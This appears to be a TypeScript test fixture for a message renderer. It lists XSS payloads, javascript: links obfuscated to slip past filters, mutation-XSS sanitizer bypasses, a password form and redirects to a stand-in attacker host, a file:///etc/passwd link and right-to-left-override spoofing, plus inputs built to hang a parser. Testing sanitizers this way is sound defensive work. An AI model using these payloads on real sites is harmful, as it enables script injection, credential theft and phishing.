// What was used against others: markup, schemes hidden by case, blanks and entities, pictures, forms, namespaces.

/** Texts that would act, if anything in a message could. */
export const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![x](https://tracker.example/p.gif)',
  '![x](javascript:alert(1))',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '[x](file:///etc/passwd)',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://a.example" onclick="alert(1)" style="position:fixed">x</a>',
  '<svg><g onload=alert(1)></g></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<details open ontoggle=alert(1)>x</details>',
  '<p id="app" class="fixed" name="x" data-x="1" aria-label="x">x</p>',
  '`<img src=x onerror=alert(1)>`',
  '[x]: javascript:alert(1)\n[x]',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '[\u202egnp.exe](https://a.example/\u202egpj.exe)',
  'https://a.example/\u202egpj.exe **x**',
  '\u202e https://a.example/moc.knab **x**',
];

/** Texts that a parser would not come back from in time, or at all: shown as typed. */
export const endless = ['a **b*'.repeat(600), '> '.repeat(1_900), '- '.repeat(1_900), '['.repeat(4_000)];
